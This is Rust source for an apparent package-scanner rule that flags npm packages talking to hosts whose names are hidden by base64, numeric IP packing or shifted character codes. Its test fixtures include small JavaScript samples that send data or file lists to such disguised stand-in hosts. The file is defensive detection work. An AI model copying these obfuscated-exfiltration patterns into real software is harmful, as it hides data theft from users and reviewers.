//! Talks to a host whose name the code puts together so that nobody can read it.

use std::collections::BTreeMap;

use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host};
use crate::model::{Origin, Severity};
use crate::source::decode;
use crate::value::stands_in;

pub(super) static FINDING: Declaration = Declaration {
    id: "hidden-destination",
    title: "Hides whom it talks to",
    severity: Severity::High,
    summary: "The package talks to a host whose name stands nowhere in it: the code decodes it, or puts it together from letters, numbers or reversed text.",
    advice: "Ask the author why the address may not be read. What is sent there should be looked at line by line.",
    benign_when: "A build tool has packed the whole program, addresses and all, and other packages of the same author are packed alike.",
    references: &["CWE-506", "T1027", "T1132.001"],
    examples: &[
        Example {
            name: "an address in base64",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const at = Buffer.from("aHR0cHM6Ly9zdGF0cy5vdGhlci5pbnZhbGlkL3Y=", "base64").toString();
exports.track = (what) => fetch(at, { method: "POST", body: what });"#,
                ),
            ],
        },
        Example {
            name: "an address that is a number",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const peer = 0xc0000207;
const at = [24, 16, 8, 0].map((bits) => (peer >>> bits) & 255).join(".");
exports.open = () => require("net").connect(4000, at);"#,
                ),
            ],
        },
        Example {
            name: "an encoded address for a function that the caller gives",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const zones = { eu: "c3RhdHMtZXUub3RoZXIuaW52YWxpZA==" };
exports.lease = (send, id) => send({ url: `https://${Buffer.from(zones.eu, "base64")}/lease/${id}` });"#,
                ),
            ],
        },
        Example {
            name: "letters that are moved by three, in a function that waits",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const name = (codes) => codes.map((code) => String.fromCharCode(code - 3)).join("");
exports.check = (files) => {
  const host = name([118, 119, 100, 119, 118, 49, 114, 119, 107, 104, 117, 49, 108, 113, 121, 100, 111, 108, 103]);
  require("https").request({ hostname: host, method: "PUT" }).end(JSON.stringify(files));
};"#,
                ),
            ],
        },
        Example {
            name: "an address that is put together from readable parts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const host = ["api", "service", "example"].join(".");
exports.track = (what) => fetch("https://" + host + "/v1", { method: "POST", body: what });"#,
                ),
            ],
        },
        Example {
            name: "credentials in base64 for an address that is plain",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const key = Buffer.from("cHVibGljLWtleQ==", "base64").toString();
exports.track = (what) => fetch("https://api.service.example/v1?key=" + key, { method: "POST", body: what });"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let mut told: Vec<String> = Vec::new();
    let mut unwritten: BTreeMap<String, bool> = BTreeMap::new();
    let mut asked = 0;
    for behaviour in context.behaviours {
        let id = behaviour.what.id;
        let is_told = id == "evasion.hidden-address";
        let Some(url) = behaviour.target.as_deref() else {
            continue;
        };
        if !is_told && !id.starts_with("network.") {
            continue;
        }
        // The host, and not what is asked of it.
        let Some(at) = host::host(url).filter(|at| !at.contains('<')) else {
            continue;
        };
        if told.contains(&at)
            || !*unwritten
                .entry(at.clone())
                .or_insert_with_key(|at| !is_written(context, at))
        {
            continue;
        }
        // Who puts a name together from parts that can be read hides nothing.
        let is_decoded = behaviour.origin.has(Origin::Decoded);
        if !is_told && !is_decoded {
            let is_new = at.contains('.') && asked < MOST_ASKED;
            asked += usize::from(is_new);
            if !is_new || stands_in(&at, &text_of(context)) {
                told.push(at);
                continue;
            }
        }
        let message = format!("talks to {at}, a name that is not to be read anywhere");
        told.push(at);
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        match context.home.whose(url) {
            Some(Whose::Own | Whose::Registry) => {
                let note = "the host is the package's own, or a registry".to_owned();
                finding.lower(Severity::Low, "own-host", note);
            }
            Some(Whose::Local) => continue,
            Some(Whose::Foreign) | None => {}
        }
        found.push(finding);
    }
}

/// Hosts whose parts are searched for.
const MOST_ASKED: usize = 16;
/// Bytes that are searched for them.
const MOST_TEXT: usize = 4 << 20;

/// What stands in the package's files of code and data, as far as that is looked at.
fn text_of(context: &Context<'_>) -> String {
    let mut text = String::new();
    for entry in &context.archive.entries {
        let bytes = context.archive.buffer.get(entry.range.clone());
        let bytes = bytes.filter(|bytes| text.len() + bytes.len() <= MOST_TEXT);
        if let Some(bytes) = bytes {
            text.push_str(&decode(bytes).text);
            text.push('\n');
        }
    }
    text
}

/// Whether a file of the package that holds the code says the host.
fn is_written(context: &Context<'_>, at: &str) -> bool {
    let entries = context.archive.entries.iter();
    entries
        .filter_map(|entry| context.archive.buffer.get(entry.range.clone()))
        .any(|bytes| memchr::memmem::find(bytes, at.as_bytes()).is_some())
}
